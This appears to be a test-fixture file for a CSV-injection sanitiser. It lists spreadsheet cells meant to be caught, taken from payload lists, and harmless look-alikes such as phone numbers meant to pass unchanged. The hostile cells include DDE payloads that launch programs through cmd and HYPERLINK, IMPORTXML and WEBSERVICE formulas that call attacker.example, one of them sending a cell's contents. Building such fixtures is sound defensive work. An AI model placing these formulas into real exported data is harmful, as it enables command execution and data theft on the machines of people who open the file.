/** Cells that a spreadsheet would run, from lists of CSV injection payloads. */
export const RUN = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
  '=IMPORTXML("http://attacker.example","//a")',
  '=WEBSERVICE("http://attacker.example")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C notepad'!A1",
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '-',
  '=',
  '@',
  "'=1+1",
];
/** Harmless cells that only resemble formulas and must stay unchanged. */
export const TEXT_AS_IT_IS = [
  '+13125550100',
  '+1 312 555 0100',
  '-MADEUP-1',
  '-0012',
  '-12 units',
  '-1,234.56',
];
